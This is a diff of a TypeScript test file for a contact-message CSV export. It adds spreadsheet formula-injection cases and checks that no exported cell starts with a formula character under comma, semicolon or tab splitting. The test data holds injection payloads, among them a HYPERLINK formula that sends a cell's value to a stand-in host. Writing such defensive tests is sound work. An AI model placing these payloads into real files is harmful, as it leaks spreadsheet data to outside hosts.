@@ -1,7 +1,8 @@
+import Papa from "papaparse";
 import { expect, test } from "vitest";
 import { makeContactRecord, type ContactRecord } from "#functions/contact/contact-record.ts";
 import { notForwarded } from "#functions/contact/forward-state.ts";
-import { listMessages, type MessageFormat } from "#infra/operator/list-messages.ts";
+import { heldMax, listMessages, type MessageFormat } from "#infra/operator/list-messages.ts";
 import type { Period } from "#infra/operator/period.ts";
 import { canaryRecordPrefix, testMailbox } from "#shared/canary.ts";
 import type { ContactMessage } from "#shared/contract/contact.ts";
@@ -23,31 +24,23 @@ const makeRecord = (key: string, minutes: number, changes: Partial<ContactMessag
 const list = async (records: readonly ContactRecord[], format: MessageFormat, period = always) => {
   const lines: string[] = [];
   const reads: number[] = [];
+  const readAgain: string[] = [];
   const rows: readonly object[] = [...records, { id: "mails#2026-11-20", taken: 3 }];
   const count = await listMessages({
     pages: (async function* () {
       for (const row of rows) yield Promise.resolve([{ ...row }]);
     })(),
-    find: (id) => Promise.resolve(records.find((record) => record.id === id)),
-    rateLimit: (units) => Promise.resolve(void reads.push(units)),
+    find: (id) => {
+      readAgain.push(id);
+      return Promise.resolve(records.find((record) => record.id === id));
+    },
+    rateLimit: (units) => Promise.resolve(void (units > 0 && reads.push(units))),
+    progress: () => Promise.resolve(),
     period,
     format,
     say: (line) => void lines.push(line),
   });
-  return { lines, count, reads };
-};
-
-/** RFC 4180, read by its own rules. */
-const readCsv = (text: string): readonly (readonly string[])[] => {
-  const rows: string[][] = [];
-  for (const [, quoted, plain = "", end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
-    const row = rows.at(-1);
-    const value = quoted === undefined ? plain : quoted.replaceAll('""', '"');
-    if (row === undefined || row.at(-1) === "\n") rows.push([value]);
-    else row.push(value);
-    if (end !== ",") rows.at(-1)!.push("\n");
-  }
-  return rows.map((row) => row.filter((value) => value !== "\n"));
+  return { lines, count, reads, readAgain };
 };
 
 const header =
@@ -84,21 +77,44 @@ test("[CONT-13] a period holds its first moment and not its end", async () => {
   expect((await list(records, "csv", period)).lines.slice(1)).toEqual([expect.stringContaining("12:01:00")]);
 });
 
-const formulas = ["=1+1", "+1", "-1", "@SUM(A1)", "＝1+1", `=HYPERLINK("https://x.example?"&A1,"Click")`];
+const formulas = [
+  "=1+1",
+  "+1",
+  "-1",
+  "@SUM(A1)",
+  "＝1+1",
+  `=HYPERLINK("https://x.example?"&A1,"Click")`,
+  "Hello;=1+1",
+  "Hello\t+1",
+  "Hello\n-1",
+  "Hello\r@SUM(A1)",
+  'Hello;"=1+1"',
+  'Hello, "Priya"; =1+1;;-1',
+];
 
-test.each(formulas)("[CONT-13] a spreadsheet does not calculate %s, in whatever column", async (formula) => {
-  const changes = {
-    name: formula,
-    eventType: formula,
-    attendees: formula,
-    message: `${formula}\r\n"=2+2", and more`,
-  };
-  const { lines } = await list([makeRecord("a".repeat(16), 0, changes)], "csv");
-  const [names = [], values = []] = readCsv(lines.map((line) => `${line}\n`).join(""));
+test.each(formulas)(
+  "[CONT-13] a spreadsheet does not calculate %j, in whatever column, and whether it splits at commas, semicolons or tabs",
+  async (formula) => {
+    const changes = {
+      name: formula,
+      eventType: formula,
+      attendees: formula,
+      message: `${formula}\r\n"=2+2", and more`,
+    };
+    const { lines } = await list([makeRecord("a".repeat(16), 0, changes)], "csv");
+    const cells = [",", ";", "\t"].flatMap((delimiter) =>
+      Papa.parse<string[]>(lines.join("\n"), { delimiter }).data.flat(),
+    );
+    expect(cells.filter((cell) => /^[\s"]*[=+\-@＝]/.test(cell))).toEqual([]);
+  },
+);
+
+test("[CONT-13] a file that is read as CSV holds a column for each name, and every word", async () => {
+  const message = 'Hello, "all"; see\tthis\r\nand =this';
+  const { lines } = await list([makeRecord("a".repeat(16), 0, { message })], "csv");
+  const [names = [], values = []] = Papa.parse<string[]>(lines.join("\n")).data;
   expect(values).toHaveLength(names.length);
-  for (const name of ["name", "event_type", "attendees", "message"])
-    expect(values[names.indexOf(name)]).toMatch(/^'[=+\-@＝]/);
-  expect(values[names.indexOf("message")]).toBe(`'${changes.message}`);
+  expect(values[names.indexOf("message")]).toBe(message);
 });
 
 test("[CONT-13] the JSON is one document, also of nothing, and holds every word as it was written", async () => {
@@ -155,8 +171,12 @@ test("[CONT-13] the canary's messages are not listed; what only resembles them i
   expect((await list([canary, ...others], "csv")).count).toBe(3);
 });
 
-test("[CONT-13] rows are read a few at a time, at the rate that is left to operators", async () => {
-  const records = Array.from({ length: 60 }, (_, index) => makeRecord(`key-of-visitor-${index}x`, index));
-  const { count, reads } = await list(records, "csv");
-  expect([count, reads]).toEqual([60, [50, 50, 20]]);
+test("[CONT-13] [OPS-11] a row is read once; of more than can be held the others again, at the rate that is left to operators", async () => {
+  const records = Array.from({ length: heldMax + 60 }, (_, index) =>
+    makeRecord(`key-of-visitor-${index}x`, -index),
+  );
+  const { lines, count, reads, readAgain } = await list(records, "csv");
+  expect([count, lines.length]).toEqual([records.length, records.length + 1]);
+  expect(readAgain).toEqual(records.slice(heldMax).map(({ id }) => id));
+  expect(reads).toEqual([100, 100, 40]);
 });
